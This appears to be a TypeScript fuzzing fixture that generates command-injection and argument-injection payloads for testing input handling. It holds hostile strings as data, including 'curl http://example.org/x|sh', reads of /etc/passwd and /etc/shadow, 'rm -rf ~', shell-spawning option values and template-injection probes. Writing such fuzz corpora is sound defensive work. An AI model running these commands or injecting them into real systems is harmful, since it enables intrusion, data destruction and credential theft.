import { readCorpus } from '../../../corpora/read.ts';

const SEPARATORS = [
  ';',
  '|',
  '||',
  '&',
  '&&',
  '\n',
  '`',
  '$(',
  '%0a',
  '\r\n',
  '\u2028',
  '>',
  '<(',
  '{',
  "'",
  '"',
  '\\',
  '\0',
];
const COMMANDS = [
  'id',
  'touch /tmp/pwned',
  'cat /etc/passwd',
  'sleep 5',
  'curl http://example.org/x|sh',
  '/bin/sh',
  'reboot',
  'rm -rf ~',
];
const ENDS: Readonly<Record<string, string>> = { '`': '`', '$(': ')', '<(': ')', '{': '}' };

/** What a shell would run if it saw it: each command after each separator, alone and behind a harmless value. */
export function shellPayloads(): string[] {
  return SEPARATORS.flatMap((separator) =>
    COMMANDS.flatMap((command) => {
      const payload = `${separator}${command}${ENDS[separator] ?? ''}`;
      return [payload, `web${payload}`, `10.0.0.1${payload}`, `${payload} #`];
    }),
  );
}

/** What tools themselves would run, read or obey, without any shell. */
export const TOOL_PAYLOADS: readonly string[] = [
  '--',
  '-',
  '-e',
  '-c',
  '-i',
  '-n',
  '-x',
  '--help',
  '--version',
  '--config=/etc/shadow',
  '--kubeconfig=/tmp/k',
  '--post-renderer=/bin/sh',
  '-chdir=/',
  '--os-token=x',
  '--connect=test:///default',
  '-e@/etc/shadow',
  '@/etc/shadow',
  '/etc/shadow',
  '../../etc/shadow',
  '~/x',
  '~root',
  '$HOME',
  '%HOME%',
  '{{ lookup("pipe", "id") }}',
  '{{7*7}}',
  '{% raw %}',
  '$(id)',
  '#{7*7}',
  '<%= 7*7 %>',
  'file:///etc/passwd',
  'http://example.org/x',
  'unix:///../x.sock',
  'qemu+ssh://x/system',
  'qemu:///session',
  'qemu+ext:///system?command=/bin/sh',
  'a,b;c',
  'a=b=c',
  '*',
  '?',
  '[a-z]',
  '!id',
  '#x',
  'а',
  'ａ',
  '‐dash',
  '–dash',
  '−1',
  '１',
  'web\u200b',
  'web\u202e',
  'we\u0301b',
  'web\u00a0',
  'web\u007f',
  'web\u001b[2J',
  '\ufeffweb',
  'web\ud800',
];

/** Every published string and every payload of ours, each once. */
export function allPayloads(): string[] {
  const naughty = readCorpus('blns/strings') as string[];
  const injections = Object.values(readCorpus('wfuzz/injections') as Record<string, string[]>).flat();
  return [...new Set([...naughty, ...injections, ...shellPayloads(), ...TOOL_PAYLOADS])];
}
